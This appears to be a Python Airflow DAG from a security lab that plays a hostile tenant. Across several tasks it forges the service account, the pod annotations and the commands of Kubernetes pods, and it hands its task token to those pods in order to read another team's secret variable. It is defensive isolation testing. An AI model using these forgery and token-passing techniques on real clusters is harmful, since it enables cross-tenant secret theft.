"""Team sales, hostile: tries to read the secret of team ml, from a pod that looks like a pod of team ml.

Each attempt prints ``loot: …`` or ``refused: …``, see ``loot.py``.
"""

import os

import loot
import task_token
from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator
from airflow.sdk import Variable, dag, task
from kubernetes import client, config
from kubernetes.client import models as k8s

ACCOUNT = "airflow-worker-ml"
IDS = {"dag_id": "ml_daily", "task_id": "load", "run_id": "forged", "try_number": "1"}
COMMAND = ["python3", loot.__file__]


def pod(ids=None, command=None):
    base = k8s.V1Container(name="base", command=command)
    spec = k8s.V1PodSpec(containers=[base], service_account_name=ACCOUNT)
    return {"pod_override": k8s.V1Pod(metadata=k8s.V1ObjectMeta(annotations=ids), spec=spec)}


def steal():
    loot.attempt(lambda: Variable.get("ml_plan"))


class Launcher(KubernetesPodOperator):
    """An operator that gives its token to the pod that it creates."""

    def execute(self, context):
        # Airflow has no such connection, so the hook does not need to request it.
        os.environ["AIRFLOW_CONN_KUBERNETES_DEFAULT"] = "kubernetes://"
        self.name = f"operator-{context['run_id']}"
        self.env_vars = [k8s.V1EnvVar("TOKEN", task_token.own(context["ti"].id))]
        super().execute(context)


@dag(schedule=None)
def sales_forger():
    # Only the account is forged; the pod's annotations contradict it.
    task(task_id="account", executor_config=pod())(steal)()
    # Everything is forged: no fields of the pod contradict each other.
    task(task_id="consistent", executor_config=pod(IDS))(steal)()
    # The command as well. It gets the executor's arguments, which contain the task's first token.
    task(task_id="command", executor_config=pod(IDS, COMMAND))(steal)()

    Launcher(
        task_id="operator",
        in_cluster=True,
        namespace="airflow",
        image="lab",
        cmds=COMMAND,
        service_account_name=ACCOUNT,
        annotations=IDS,
        random_name_suffix=False,
        on_finish_action="keep_pod",
        startup_check_interval_seconds=1,
    )

    @task(task_id="client")
    def make_pod(ti, run_id):
        # The first attempt needs no pod except the task's own.
        steal()
        config.load_incluster_config()
        token = k8s.V1EnvVar("TOKEN", task_token.own(ti.id))
        base = k8s.V1Container(name="base", image="lab", command=COMMAND, env=[token])
        spec = k8s.V1PodSpec(containers=[base], service_account_name=ACCOUNT, restart_policy="Never")
        metadata = k8s.V1ObjectMeta(name=f"client-{run_id}", annotations=IDS)
        client.CoreV1Api().create_namespaced_pod("airflow", k8s.V1Pod(metadata=metadata, spec=spec))

    make_pod()


sales_forger()
